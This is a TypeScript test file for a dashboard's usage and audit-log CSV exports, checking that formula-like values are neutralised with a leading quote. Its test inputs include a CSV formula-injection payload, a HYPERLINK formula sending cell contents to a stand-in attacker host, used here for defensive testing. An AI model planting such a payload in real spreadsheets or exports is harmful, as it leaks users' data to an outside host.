import type { AuditEntry, UsageRow } from '@svc/sdk/types';
import { auditCsv, usageCsv } from '../web/src/csv-files';

/**
 * The dashboard's two CSV files, built by the functions its Usage and Audit log pages call
 * for their download (web/src/csv-files.ts): text that a spreadsheet would run as a formula
 * comes out behind a single quote, numbers come out as numbers.
 */
const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1', '@SUM(A1:A9)', '\t=1', '\r=1', '-1+1'];

/** A field of the file as RFC 4180 writes it: the text between the quotes, with quotes doubled. */
const quoted = (text: string): string => `"${text.replace(/"/g, '""')}"`;

function usageRow(group: Partial<UsageRow>, cost = 0.006): UsageRow {
  return { ...group, searches: 2, failed_attempts: 0, cost_usd: cost, byok_fee_usd: 0, cache_hits: 1, cache_saved_usd: 0.003 };
}

describe('the Usage page\'s CSV file', () => {
  it('writes an ordinary row as before: the group, then the figures as numbers', () => {
    expect(usageCsv([usageRow({ model: 'exa/fast' })], 'model')).toBe('model,searches,failed_attempts,cost_usd,byok_fee_usd,cache_hits,cache_saved_usd\r\nexa/fast,2,0,0.006,0,1,0.003\r\n');
  });

  it.each(HOSTILE)('neutralises a group value beginning like a formula (%j) in every grouping', (text) => {
    for (const [grouping, group] of [['day', { date: text }], ['model', { model: text }], ['key', { key_id: text }]] as const) {
      const [, record] = usageCsv([usageRow(group)], grouping).split(/\r\n(?=.)/);
      expect(record).toBe(`${quoted(`'${text}`)},2,0,0.006,0,1,0.003\r\n`);
    }
  });

  it('writes a negative amount as the number it is', () => {
    expect(usageCsv([usageRow({ date: '2026-01-02' }, -0.5)], 'day')).toContain('\r\n2026-01-02,2,0,-0.5,0,1,0.003\r\n');
  });
});

function auditEntry(overrides: Partial<AuditEntry>): AuditEntry {
  return {
    id: 'aud_AAAAAAAAAAAAAAAAAAAAAAAA', at: '2026-01-02T03:04:05.678Z', actor: { kind: 'session', id: 'usr_AAAAAAAAAAAAAAAAAAAAAAAA' },
    client_address: '203.0.113.7', action: 'api_key.create', target_id: 'key_AAAAAAAAAAAAAAAAAAAAAAAA',
    changes: { name: { before: null, after: 'ci' } }, ...overrides,
  };
}

describe('the Audit log page\'s CSV file', () => {
  it('writes an entry as before: its columns, `changes` as quoted JSON, no client address as an empty field', () => {
    expect(auditCsv([auditEntry({ client_address: null })])).toBe(
      'at,actor_kind,actor_id,client_address,action,target_id,changes\r\n'
      + `2026-01-02T03:04:05.678Z,session,usr_AAAAAAAAAAAAAAAAAAAAAAAA,,api_key.create,key_AAAAAAAAAAAAAAAAAAAAAAAA,${quoted('{"name":{"before":null,"after":"ci"}}')}\r\n`,
    );
  });

  it.each(HOSTILE)('neutralises an actor id, a target id and a client address beginning like a formula (%j)', (text) => {
    const csv = auditCsv([auditEntry({ actor: { kind: 'operator', id: text }, target_id: text, client_address: text })]);
    const neutral = quoted(`'${text}`);
    expect(csv).toContain(`\r\n2026-01-02T03:04:05.678Z,operator,${neutral},${neutral},api_key.create,${neutral},`);
  });
});
